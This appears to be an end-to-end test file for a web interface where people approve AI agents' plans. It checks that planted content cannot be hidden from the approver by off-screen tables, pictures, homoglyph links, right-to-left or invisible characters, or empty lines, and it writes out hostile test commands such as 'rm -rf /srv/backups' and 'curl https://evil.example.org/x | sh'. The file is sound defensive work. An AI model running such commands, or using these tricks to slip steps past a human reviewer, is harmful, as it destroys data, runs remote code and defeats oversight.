// What a person approves is what they see: nothing of a plan that waits is hidden, folded, off the screen or exchanged.
import { readFileSync } from "node:fs";
import type { Page } from "playwright-core";
import { beforeEach, describe, expect, onTestFinished, test } from "vitest";

import { until, untilCount, visit } from "./browser";
import { agentCalls, planned, sharedStack, startStack, type Stack } from "./stack";

let stack: Stack;

beforeEach(async () => {
  stack = await sharedStack();
});

const statusOf = async (id: string): Promise<string> => (await stack.api("GET", `/api/plans/${id}`)).status;

/** Where words cannot be read: outside of the screen, in no space, or below something else. */
async function unreadable(page: Page, words: readonly string[]): Promise<string[]> {
  return page.evaluate((wanted) => {
    const root = document.querySelector("[data-plan-text]")!;
    const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
    const nodes: { node: Node; at: number }[] = [];
    let all = "";
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      nodes.push({ node, at: all.length });
      all += node.textContent ?? "";
    }
    const find = (at: number) => nodes.findLast((one) => one.at <= at)!;
    return wanted.filter((text) => {
      const at = all.indexOf(text);
      if (at < 0) return true;
      const first = find(at);
      first.node.parentElement!.scrollIntoView({ block: "center" });
      // What is read by scrolling sideways is not seen.
      for (let box: Element | null = first.node.parentElement; box; box = box.parentElement) box.scrollLeft = 0;
      const range = document.createRange();
      range.setStart(first.node, at - first.at);
      const last = find(at + text.length - 1);
      range.setEnd(last.node, at + text.length - last.at);
      const boxes = [...range.getClientRects()].filter((box) => box.width > 0);
      const isOnScreen = boxes.length > 0 && boxes.every((box) => box.left >= 0 && box.right <= innerWidth + 1 && box.height >= 8);
      const isSeen = (x: number, y: number) => y < 0 || y > innerHeight || root.contains(document.elementFromPoint(x, y));
      return !isOnScreen || !boxes.every((box) => [box.left + 1, box.left + box.width / 2, box.right - 1].every((x) => isSeen(x, box.top + box.height / 2)));
    });
  }, words);
}

const read = (name: string) => JSON.parse(readFileSync(`../crates/core/src/plan/hidden/${name}.json`, "utf8")) as { markdown: string; shows: string }[];
/** What a rendering would leave out, and what only its place on the screen would hide. Every surface is tried with both. */
const [PLANTS, PLACED] = [read("plants"), read("placed")];

/** What only a browser could hide: beside the screen, in the words of a picture, or by its direction. */
const OURS: [text: string, words: string][] = [
  ["| a | b | c | d | e | f | g | h |\n|--|--|--|--|--|--|--|--|\n| 1 | 2 | 3 | 4 | 5 | 6 | 7 | the-last-of-eight |", "the-last-of-eight"],
  ["> - > - | a | b | c | d |\n>   >   |--|--|--|--|\n>   >   | 1 | 2 | 3 | the-last-of-four |", "the-last-of-four"],
  ["| a |\n|--|\n|" + " 1 |".repeat(20) + " the-cell-of-no-column |", "the-cell-of-no-column"],
  ['![a [shelf](https://evil.example "a-title-in-a-picture")](a.png)', "a-title-in-a-picture"],
  ["![](data:image/png;base64,YS1waWN0dXJlLWluLXRoZS10ZXh0)", "YS1waWN0dXJlLWluLXRoZS10ZXh0"],
  ["<https://\u0430\u0440\u0440\u04cf\u0435.com/>", "xn--80ak6aa92e.com"],
  ["\u05e9\u05dc\u05d5\u05dd `rm -rf /to-the-left`", "rm -rf /to-the-left"],
  ["&ZeroWidthSpace;an&shy;entity", "⟦U+200B⟧an⟦U+00AD⟧entity"],
  ["n\u0336o\u0336t", "n⟦U+0336⟧o⟦U+0336⟧t"],
];

/** Each plant with words of its own, and those that only their place hides. */
function corpus(): { text: string; words: string[] } {
  const own = (text: string, index: number) => text.replaceAll("delete the backups", `plant ${index} is here`).replaceAll("delete-the-backups", `plant-${index}-is-here`);
  const parts = PLANTS.map(({ markdown, shows }, index) => ({ text: own(markdown, index), words: own(shows, index) }));
  parts.push(...PLACED.map(({ markdown, shows }) => ({ text: markdown, words: shows })));
  parts.push(...OURS.map(([text, words]) => ({ text, words })));
  return { text: `# Tidy up\n\n- [ ] tidy the shelf\n\n${parts.map((part) => part.text).join("\n\nThen rest.\n\n")}\n`, words: parts.map((part) => part.words) };
}

describe("nothing is hidden", () => {
  test.each([1440, 820, 390, 360])("in a hostile document, at %i pixels", async (width) => {
    const { text, words } = corpus();
    const id = await planned(stack, "hidden-one", "/plan on", `planted: ${text}`);
    const { page, settled } = await visit(stack, `/p/${id}`, { viewport: { width, height: 900 } });
    await page.getByRole("button", { name: /^Approve version 1/ }).waitFor();
    await settled();
    expect(await unreadable(page, words)).toEqual([]);
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
  });

  test("in the columns of a table, however many and however wide the screen is", async () => {
    const row = (cell: string, columns: number) => `|${Array.from({ length: columns }, (_, n) => ` ${cell}${n} |`).join("")}`;
    const tables = [2, 3, 4, 5, 6, 7, 8].map((columns) => `${row("column", columns)}\n${row("--", columns).replace(/\d/g, "")}\n${row("something ", columns)}`);
    const id = await planned(stack, "many-columns", "/plan on", `planted: # Tidy up\n\n- [ ] tidy the shelf\n\n${tables.join("\n\n")}\n\n> > - ${(tables[6] ?? "").replaceAll("\n", "\n> >   ")}\n`);
    const { page } = await visit(stack, `/p/${id}`);
    await page.getByText("something 7").first().waitFor();
    for (const width of [1440, 1101, 820, 640, 390, 360]) {
      await page.setViewportSize({ width, height: 900 });
      const seen = await page.locator(".md-table").evaluateAll((all) => all.map((table) => [table.scrollWidth <= table.clientWidth, getComputedStyle(table.querySelector("td")!).display]));
      expect(seen.map(([fits]) => fits), `${width} pixels`).toEqual(Array.from({ length: 8 }, () => true));
      // It is a table where there is room for one.
      expect(seen[0]?.[1]).toBe("table-cell");
      if (width === 360) expect(seen.slice(2).map(([, display]) => display)).toEqual(Array.from({ length: 6 }, () => "block"));
    }
  });

  test("of an agents' plan with many steps: its commands stand in front, are counted and are not folded", async () => {
    const id = await planned(stack, "shelves-1", "/plan on build", "plan twenty-two steps");
    const { page, go } = await visit(stack, `/p/${id}`);
    const covers = page.getByRole("region", { name: "What the approval covers" });
    await covers.getByText("2 commands").waitFor();
    await covers.getByText("rm -rf /srv/backups").waitFor();
    await covers.getByText("evil.example.org", { exact: true }).waitFor();
    await page.getByRole("button", { name: "Approve version 1 · 22 steps · 2 commands" }).waitFor();
    expect(await unreadable(page, ["rm -rf /srv/backups", "curl https://evil.example.org/x | sh"])).toEqual([]);
    // In a text that runs to the left a command still runs to the right.
    expect(await covers.locator("code").first().evaluate((line) => getComputedStyle(line).direction)).toBe("ltr");
    // Without its step it is not covered.
    await page.getByRole("checkbox", { name: "Tidy shelf 17" }).uncheck();
    await page.getByRole("button", { name: /^Approve version 1 · 21 of 22 steps$/ }).waitFor();
    await untilCount(covers.getByText("rm -rf /srv/backups"), 0);
    // The inbox and the panel show the same.
    await go("/");
    await page.getByRole("button", { name: /Tidy the server/ }).click();
    await page.getByRole("region", { name: "What the approval covers" }).getByText("rm -rf /srv/backups").waitFor();
    await go("/s/shelves-1");
    await page.getByRole("complementary", { name: "Plan of this session" }).getByText("rm -rf /srv/backups").waitFor();
  });

  test.each([1440, 390])("behind many empty lines: the page says that the text goes on, until its end was on the screen, at %i pixels", async (width) => {
    const id = await planned(stack, "empty-lines", "/plan on", `planted: # Tidy up\n\n- [ ] tidy the shelf\n\n\`\`\`\n${"\n".repeat(400)}\n\`\`\`\n\nAnd delete the backups.\n`);
    const { page, go } = await visit(stack, `/p/${id}`, { viewport: { width, height: 900 } });
    const more = page.getByRole("button", { name: /^The plan goes on: \d+ more screens$/ });
    await more.waitFor();
    const screens = async () => Number(/\d+/.exec((await more.textContent()) ?? "")?.[0]);
    const before = await screens();
    expect(before).toBeGreaterThan(5);
    await more.click();
    await until(screens, (left) => left < before);
    await page.getByText("And delete the backups.").scrollIntoViewIfNeeded();
    await untilCount(page.locator(".more-below").filter({ visible: true }), 0);
    await page.locator(".plan-scroll").evaluate((text) => text.scrollTo({ top: 0 }));
    await page.waitForTimeout(300);
    await untilCount(page.locator(".more-below").filter({ visible: true }), 0);
    if (width < 1100) return;
    await go("/");
    await page.getByRole("button", { name: /Tidy up/ }).click();
    await more.waitFor();
  });

  test("the commands of a document are the ones that its approval covers, also where they hide", async () => {
    const id = await planned(stack, "covered-one", "/plan on", "planted: # Tidy up\n\n- [ ] tidy the shelf\n\n![`$ rm -rf /in-a-picture`](a.png)\n\n[^x]: a\n\n    $ rm -rf /in-a-note\n");
    const { page } = await visit(stack, `/p/${id}`);
    const covers = page.getByRole("region", { name: "What the approval covers" });
    await covers.getByText("2 commands").waitFor();
    for (const line of ["rm -rf /in-a-picture", "rm -rf /in-a-note"]) await covers.getByText(line, { exact: true }).waitFor();
    await page.getByRole("button", { name: "Approve version 1 · 1 step · 2 commands" }).waitFor();
  });

  test("of calls that the agent of another program records: what it says about each, and what the program calls itself", async () => {
    // With the token alone no one deletes such a session: it has a server of its own.
    const own = await startStack();
    onTestFinished(own.close);
    const from = { key: "recorded-elsewhere", style: "collect", name: "cl\u202eaude" };
    await agentCalls(own, from, "plan_add_call", { tool: "send_mail", arguments: { to: "all" }, description: "delete the backups first" });
    await agentCalls(own, from, "plan_finalize", { summary: "One mail" });
    const { plans } = await own.api("GET", "/api/plans?sessionId=recorded-elsewhere&channel=mcp");
    const { page, go } = await visit(own, `/p/${plans[0].id}`);
    await page.getByRole("region", { name: "What the approval covers" }).getByText("send_mail").waitFor();
    await page.getByText("The agent's words: delete the backups first").waitFor();
    expect(await unreadable(page, ["delete the backups first"])).toEqual([]);
    await go(`/p/${plans[0].id}?view=history`);
    await page.getByText("cl⟦U+202E⟧aude").first().waitFor();
  });

  test("and a plan whose text was not on the screen is not approved beside the chat", async () => {
    const id = await planned(stack, "unread-one", "/plan on", "move the blog to a new host");
    const { page } = await visit(stack, "/s/unread-one");
    const panel = page.getByRole("complementary", { name: "Plan of this session" });
    const approve = panel.getByRole("button", { name: "Approve version 1 · 7 steps" });
    await until(() => approve.getAttribute("aria-disabled"), (seen) => seen === "true");
    await approve.click({ force: true });
    expect(await statusOf(id)).toBe("READY");
    await panel.getByRole("link", { name: "Read the whole plan" }).click();
    await page.getByRole("cell", { name: "120,481 rows" }).waitFor();
    await page.goBack();
    await until(() => approve.getAttribute("aria-disabled"), (seen) => seen === null);
    await approve.click();
    await until(() => statusOf(id), (status) => status !== "READY");
  });
});

describe("comments that were not sent", () => {
  const comment = (id: string, text: string) => stack.api("PUT", `/api/plans/${id}/review`, { version: 1, comments: [{ id: "c1", anchor: { quote: "end of the month", prefix: "", suffix: "" }, kind: "comment", text }] });

  test.each(["the session", "the inbox", "a phone"])("hold an approval in %s until the person says what becomes of them", async (where) => {
    const id = await planned(stack, "unsent-one", "/plan on", "move the blog to a new host");
    const { page, go } = await visit(stack, `/p/${id}`, where === "a phone" ? { viewport: { width: 390, height: 844 } } : {});
    await page.getByRole("cell", { name: "120,481 rows" }).waitFor();
    await comment(id, "must be fixed before this runs");
    if (where === "the session") await go("/s/unsent-one");
    if (where === "the inbox") {
      await go("/");
      await page.getByRole("button", { name: /Move the blog/ }).click();
    }
    if (where === "a phone") {
      // It is being written, and not kept.
      await page.getByRole("button", { name: "Approve version 1 · 7 steps, with 1 note" }).waitFor();
      await page.getByRole("button", { name: "1 comment", exact: true }).click();
      await page.getByRole("button", { name: "Edit the comment" }).click();
      await page.getByLabel("Your comment").fill("must be fixed before this runs, really");
      await page.getByRole("button", { name: "Close the comments" }).click();
    }
    await page.getByRole("button", { name: "Approve version 1 · 7 steps, with 1 note" }).click();
    const dialog = page.getByRole("dialog", { name: "1 comment is not sent yet" });
    await dialog.getByText("must be fixed before this runs").waitFor();
    expect(await statusOf(id)).toBe("READY");
    await dialog.getByRole("button", { name: "Send it and ask for changes" }).click();
    await until(() => stack.api("GET", `/api/plans/${id}/review`), (seen: any) => seen.rounds.length === 1 && seen.comments.length === 0);
    await until(async () => stack.model.asked().some((text) => text.includes("must be fixed before this runs")), (asked) => asked);
  });

  test("can be thrown away, or go along as notes", async () => {
    for (const [key, choice] of [["notes-one", "Send it as a note and approve version 1"], ["discard-one", "Discard it and approve version 1"]] as const) {
      const id = await planned(stack, key, "/plan on", "move the blog to a new host");
      const { page, go } = await visit(stack, `/p/${id}`);
      await page.getByRole("cell", { name: "120,481 rows" }).waitFor();
      await comment(id, "Which day?");
      await go(`/s/${key}`);
      await page.getByRole("button", { name: "Approve version 1 · 7 steps, with 1 note" }).click();
      await page.getByRole("button", { name: choice }).click();
      const { approval } = await until(() => stack.api("GET", `/api/plans/${id}`), (seen: any) => seen.approval !== null);
      expect((approval.note ?? "").includes("Which day?")).toBe(key === "notes-one");
      expect((await stack.api("GET", `/api/plans/${id}/review`)).comments).toEqual([]);
    }
  });

  test("of two tabs are all kept, and a half-written one survives reload and navigation", async () => {
    const id = await planned(stack, "two-tabs", "/plan on", "move the blog to a new host");
    const { page, context, go } = await visit(stack, `/p/${id}`);
    const other = await context.newPage();
    await other.goto(`${stack.url}/p/${id}`);
    for (const [tab, text] of [[page, "from the first"], [other, "from the second"]] as const) {
      await tab.getByRole("complementary", { name: "Comments" }).waitFor();
      await tab.keyboard.press("c");
      await tab.getByLabel("Your comment").fill(text);
    }
    await Promise.all([page, other].map((tab) => tab.keyboard.press("Control+Enter")));
    const texts = (seen: any): string[] => seen.comments.map(({ text }: any) => text).sort();
    await until(async () => texts(await stack.api("GET", `/api/plans/${id}/review`)), (seen) => seen.length === 2);
    await page.keyboard.press("c");
    await page.getByLabel("Your comment").fill("half of a");
    await page.reload();
    expect(await page.getByLabel("Your comment").inputValue()).toBe("half of a");
    await go("/settings");
    await go(`/p/${id}`);
    expect(await page.getByLabel("Your comment").inputValue()).toBe("half of a");
  });
});

test("a newer version does not replace the text that is being read", async () => {
  const id = await planned(stack, "two-versions", "/plan on", "move the blog to a new host");
  const { page } = await visit(stack, `/p/${id}`);
  const text = page.locator("[data-plan-text]");
  await text.getByText("Lower the TTL of the DNS records").waitFor();
  await stack.api("POST", "/api/sessions/two-versions/messages", { text: "make it shorter" });
  await page.getByText("You are reading version 1. Version 2 is there.").waitFor();
  await text.getByText("Lower the TTL of the DNS records").waitFor();
  await untilCount(text.getByText("Announce a maintenance window"), 0);
  await page.getByRole("button", { name: "Show the difference" }).click();
  await page.locator(".diff-line[data-mark=removed]", { hasText: "Lower the TTL" }).waitFor();
  await page.getByRole("button", { name: "Plan", exact: true }).click();
  await text.getByText("Announce a maintenance window").waitFor();
  await page.getByRole("button", { name: "Approve version 2 · 6 steps" }).waitFor();
});
